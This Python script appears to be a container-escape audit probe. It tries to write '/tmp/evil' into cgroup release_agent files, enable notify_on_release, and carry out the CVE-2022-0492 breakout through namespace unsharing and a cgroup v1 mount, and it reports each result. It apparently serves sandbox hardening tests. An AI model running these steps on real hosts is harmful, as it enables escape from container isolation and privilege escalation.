import ctypes
import errno
import glob
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
attempts = {}
agents = glob.glob("/sys/fs/cgroup/release_agent") + glob.glob("/sys/fs/cgroup/*/release_agent")
for path in agents + glob.glob("/sys/fs/cgroup/*/notify_on_release") + glob.glob("/sys/fs/cgroup/notify_on_release"):
    try:
        with open(path, "w") as f:
            f.write("/tmp/evil" if path.endswith("agent") else "1")
        attempts["write " + path] = "written"
    except OSError as e:
        attempts["write " + path] = errno.errorcode.get(e.errno, "?")
for path in ("/sys/fs/cgroup/audit", "/sys/fs/cgroup/memory/audit", "/sys/fs/cgroup/pids/audit"):
    try:
        os.mkdir(path)
        attempts["mkdir " + path] = "written"
        os.rmdir(path)
    except OSError as e:
        attempts["mkdir " + path] = errno.errorcode.get(e.errno, "?")
# CVE-2022-0492: a new user+mount+cgroup namespace, then mount cgroup v1 and set release_agent.
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    try:
        u = libc.unshare(0x10000000 | 0x00020000 | 0x02000000)
        e = ctypes.get_errno()
        os.makedirs("/tmp/.audit-cg", exist_ok=True)
        m = libc.mount(b"cgroup", b"/tmp/.audit-cg", b"cgroup", 0, b"rdma")
        e2 = ctypes.get_errno()
        agent = "not mounted"
        if m == 0:
            try:
                open("/tmp/.audit-cg/release_agent", "w").write("/tmp/evil")
                agent = "written"
            except OSError as exc:
                agent = errno.errorcode.get(exc.errno, "?")
        os.write(
            w,
            json.dumps(
                ["ok" if u == 0 else errno.errorcode.get(e), "ok" if m == 0 else errno.errorcode.get(e2), agent]
            ).encode(),
        )
    finally:
        os._exit(0)
os.close(w)
unshare, mount, agent = json.loads(os.read(r, 4096))
os.waitpid(pid, 0)
os.close(r)
try:
    os.rmdir("/tmp/.audit-cg")
except OSError:
    pass
attempts["unshare -UmC then mount cgroup"] = mount
attempts["release_agent in that mount"] = agent
_report({"attempts": attempts, "agents_found": agents, "unshare": unshare})
